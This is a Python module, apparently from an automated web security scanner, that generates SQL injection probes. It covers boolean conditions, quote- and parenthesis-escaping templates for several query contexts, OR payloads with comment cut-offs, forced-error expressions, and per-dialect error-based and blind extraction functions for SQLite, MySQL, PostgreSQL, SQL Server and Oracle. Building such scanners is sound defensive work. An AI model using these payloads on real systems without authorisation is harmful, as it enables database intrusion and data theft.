"""SQL as the injection checks write it: random assertions, the places a value can stand in, and computed outputs.

Everything is built from integers and words that the caller's generator draws, so that no two probes are alike.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from vedette.engine.attack.point import Point
from vedette.engine.attack.rng import Rng

_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")
_NUMBERS = re.compile(r"-?\d+(?:\.\d+)?(?:, ?-?\d+(?:\.\d+)?)+")
_IDENTIFIER = re.compile(r"[A-Za-z_][\w.]*(?:[ +](?:asc|desc))?", re.IGNORECASE)
_READING_FORM = re.compile(r"passw|passwd|pwd|log-?in|sign-?in|auth|search|find|query|filter|lookup", re.IGNORECASE)


def assertion(rng: Rng, truth: bool | None) -> str:
    """A true, false or (None) unparsable condition on three random integers.

    `BETWEEN` is SQL's alone: a script, XPath or directory filter that evaluates conditions does not know it.
    """
    low, middle, high = sorted({rng.integer(1000, 3999), rng.integer(4000, 6999), rng.integer(7000, 9999)})
    if truth is None:
        return f"{middle} BETWEEN AND {low} {high}"
    if truth:
        return rng.choice([f"{middle} BETWEEN {low} AND {high}", f"{low} NOT BETWEEN {middle} AND {high}"])
    return rng.choice([f"{low} BETWEEN {middle} AND {high}", f"{middle} NOT BETWEEN {low} AND {high}"])


@dataclass(frozen=True, slots=True)
class Boundary:
    """How a condition is put into a query at one kind of place.

    In `template`, `{v}` is the original value (`{number}` the same, 1 for an empty one), `{p}` the condition, `{x}` a
    random word, `{n}` a random integer. `keeps` tells that a true condition leaves the answer as it is; otherwise a
    false one does.
    """

    name: str
    template: str
    keeps: bool = True

    def payload(self, value: str, condition: str, rng: Rng) -> str:
        """The value to send for one condition."""
        number = value or "1"
        word, integer = rng.word(4), rng.integer(20_000, 32_000)
        return self.template.format(v=value, number=number, p=condition, x=word, n=integer)


FAILURE = "1/0+abs(-9223372036854775807-1)"
"""Fails when it is evaluated: the division in most databases, the overflow in SQLite and MySQL."""

NUMBER = (
    Boundary("number", "{number} AND {p}"),
    Boundary("number-scalar", "{number}-CASE WHEN {p} THEN 0 ELSE {n} END"),
    Boundary("number-failure", "{number}-CASE WHEN {p} THEN 0 ELSE " + FAILURE + " END"),
)
LISTED = (Boundary("list", "{v}) AND {p} AND ({n}={n}"), *NUMBER[1:])
"""For several numbers between parentheses; the last one of them may also be reckoned with."""

SINGLE = (
    Boundary("single", "{v}' AND {p} AND '{x}' LIKE '{x}"),
    Boundary("single-concat", "{v}'||CASE WHEN {p} THEN '' ELSE '{x}' END||'"),
    Boundary("single-like", "{v}%' AND {p} AND '{x}' LIKE '{x}"),
    Boundary("single-failure", "{v}'||CASE WHEN {p} THEN '' ELSE '{x}'||(" + FAILURE + ") END||'"),
    Boundary("single-parenthesis", "{v}') AND {p} AND ('{x}' LIKE '{x}"),
)
DOUBLE = (
    Boundary("double", '{v}" AND {p} AND "{x}" LIKE "{x}'),
    Boundary("double-like", '{v}%" AND {p} AND "{x}" LIKE "{x}'),
    Boundary("double-parenthesis", '{v}") AND {p} AND ("{x}" LIKE "{x}'),
)
SORTING = (
    Boundary("order-failure", "(SELECT CASE WHEN {p} THEN 1 ELSE " + FAILURE + " END),{v}"),
    Boundary("order-direction", "{v},(SELECT CASE WHEN {p} THEN 1 ELSE " + FAILURE + " END)"),
)
ANY = (
    Boundary("any-or", "{v} OR {p}-- {x}' OR {p}-- {x}\" OR {p}-- {x}", keeps=False),
    Boundary("any-or-parenthesis", "{v}) OR {p}-- {x}') OR {p}-- {x}\") OR {p}-- {x}", keeps=False),
)
"""One text for three places at once: as a number, in single and in double quotes; the rest of the line is cut off."""

BALANCED_OR = (
    Boundary("number-or", "{number} OR {p}", keeps=False),
    Boundary("single-or", "{v}' OR {p} AND '{x}' LIKE '{x}", keeps=False),
    Boundary("double-or", '{v}" OR {p} AND "{x}" LIKE "{x}', keeps=False),
)

BOUNDARIES = {item.name: item for item in (*NUMBER, *SINGLE, *DOUBLE, *SORTING, *ANY, *BALANCED_OR, *LISTED)}


def likely(point: Point) -> tuple[Boundary, ...]:
    """All boundaries that make sense for the point's value, the likeliest first.

    OR would reach every row of a query that changes rows: it is left out where a request may write, save on forms
    that read: searches and log-ins.
    """
    value = point.value
    ordered: tuple[Boundary, ...]
    if _NUMBER.fullmatch(value):
        ordered = (*NUMBER, *SINGLE, *DOUBLE)
    elif _NUMBERS.fullmatch(value):
        ordered = (*LISTED, *SINGLE)
    elif _IDENTIFIER.fullmatch(value):
        ordered = (*SINGLE, *SORTING, *DOUBLE)
    else:
        ordered = (*SINGLE, *DOUBLE, *((*NUMBER,) if not value else ()))
    return (*ordered, *(ANY + BALANCED_OR if reads_only(point) else ()))


def selecting(point: Point) -> tuple[Boundary, ...]:
    """The few likeliest boundaries for a value that decides which page comes: true conditions keep it."""
    if _NUMBER.fullmatch(point.value):
        return (NUMBER[0], SINGLE[0], NUMBER[1])
    return (SINGLE[0], DOUBLE[0], SINGLE[-1])


def reads_only(point: Point) -> bool:
    """Whether the request looks as if it only reads: its method says so, or it is a search or a log-in."""
    target = point.target
    if not target.writes:
        return True
    words = (target.template, target.request.body.decode("latin-1"), *target.labels)
    return any(_READING_FORM.search(word) for word in words)


@dataclass(frozen=True, slots=True, kw_only=True)
class Dialect:
    """What differs between databases.

    `words` are what names it in technologies and error messages; `version` is its version as text; `code` the code of
    character `{i}` of `{e}`; `loud` fails with a message that shows `{a}*{b}`; `join` concatenates two texts.
    """

    name: str
    words: tuple[str, ...]
    version: str
    code: str
    loud: str
    join: str = "{a}||{b}"


DIALECTS = (
    Dialect(
        name="SQLite",
        words=("sqlite",),
        version="sqlite_version()",
        code="unicode(substr({e},{i},1))",
        loud="json_extract(0,char(126)||({a}*{b}))",
    ),
    Dialect(
        name="MySQL",
        words=("mysql", "mariadb"),
        version="version()",
        code="ascii(substr({e},{i},1))",
        loud="extractvalue(1,concat(0x7e,({a}*{b})))",
        join="concat({a},{b})",
    ),
    Dialect(
        name="PostgreSQL",
        words=("postgres", "psycopg", "npgsql"),
        version="version()",
        code="ascii(substr({e},{i},1))",
        loud="cast(chr(126)||({a}*{b}) as int)",
    ),
    Dialect(
        name="SQL Server",
        words=("sql server", "mssql", "sqlserver"),
        version="@@version",
        code="ascii(substring({e},{i},1))",
        loud="convert(int,char(126)+convert(varchar,{a}*{b}))",
        join="{a}+{b}",
    ),
    Dialect(
        name="Oracle",
        words=("oracle", "ora-"),
        version="(select banner from v$version where rownum=1)",
        code="ascii(substr({e},{i},1))",
        loud="upper(xmltype(chr(60)||chr(58)||({a}*{b})||chr(62)))",
    ),
)


def dialects(*hints: str) -> tuple[Dialect, ...]:
    """The dialects that the hints (names of technologies, error texts) mention; all of them when none is."""
    text = " ".join(hints).lower()
    named = tuple(dialect for dialect in DIALECTS if any(word in text for word in dialect.words))
    return named or DIALECTS
